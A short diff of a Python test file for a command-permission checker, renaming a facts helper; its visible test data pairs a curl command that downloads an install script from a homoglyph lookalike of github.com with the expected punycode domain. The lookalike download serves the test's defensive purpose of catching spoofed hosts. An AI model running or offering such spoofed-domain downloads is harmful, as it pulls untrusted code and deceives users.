@@ -5,9 +5,9 @@ import pytest
 from refold.permissions.decide import decide
 from refold.permissions.facts import Access
 from refold.values.tools import Effect
-from tests.permissions.places import on_file, place
+from tests.permissions.places import make_facts, on_file
 
-FACTS = place()
+FACTS = make_facts()
 # Each with what the question says.
 COMMANDS = (
     ("curl https://g\u0456thub.com/install.sh", "is xn--gthub-n2e.com"),
